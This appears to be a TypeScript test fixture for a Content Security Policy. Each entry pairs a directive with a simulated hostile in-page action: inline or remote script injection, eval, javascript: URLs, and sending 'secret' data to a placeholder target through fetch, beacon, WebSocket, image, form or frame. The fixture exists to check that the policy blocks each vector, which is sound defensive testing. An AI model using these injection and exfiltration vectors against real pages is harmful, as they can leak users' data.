/** What a hostile script would try, and the directive that is in its way. Run in the page; `target` is elsewhere. */
export const attacks: readonly (readonly [name: string, directive: string, attack: (target: string) => void])[] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.didRun = true';
      document.body.append(script);
    },
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (target) => {
      const script = document.createElement('script');
      script.src = target;
      document.body.append(script);
    },
  ],
  [
    'an inline handler',
    'script-src-attr',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.didRun = true');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'eval',
    'script-src',
    () => setTimeout(() => Reflect.apply(Reflect.get(globalThis, 'eval'), null, ['didRun = true'])),
  ],
  ['new Function', 'script-src', () => setTimeout(() => Reflect.construct(Reflect.get(globalThis, 'Function'), ['1']))],
  ['a text as a timer', 'script-src', () => Reflect.apply(setTimeout, null, ['globalThis.didRun = true'])],
  ['a javascript: address', 'script-src-elem', () => location.assign('javascript:globalThis.didRun = true')],
  ['a request', 'connect-src', (target) => void fetch(target).catch(() => undefined)],
  ['a beacon', 'connect-src', (target) => navigator.sendBeacon(target, 'secret')],
  ['a socket', 'connect-src', (target) => setTimeout(() => new WebSocket(target.replace('http', 'ws')))],
  [
    'a picture that tells',
    'img-src',
    (target) => {
      new Image().src = `${target}?secret`;
    },
  ],
  [
    'a frame',
    'frame-src',
    (target) => {
      const frame = document.createElement('iframe');
      frame.src = target;
      document.body.append(frame);
    },
  ],
  [
    'a frame of our own page',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = '/index.html';
      document.body.append(frame);
    },
  ],
  [
    'a plug-in',
    'object-src',
    (target) => {
      const plugin = document.createElement('object');
      plugin.data = target;
      document.body.append(plugin);
    },
  ],
  [
    'a form',
    'form-action',
    (target) => {
      const form = document.createElement('form');
      form.action = target;
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base for addresses',
    'base-uri',
    (target) => {
      const base = document.createElement('base');
      base.href = target;
      document.head.append(base);
    },
  ],
  [
    'a style sheet',
    'style-src-elem',
    (target) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = target;
      document.head.append(link);
    },
  ],
  ['a worker made of text', 'worker-src', () => setTimeout(() => new Worker('data:text/javascript,1'))],
];
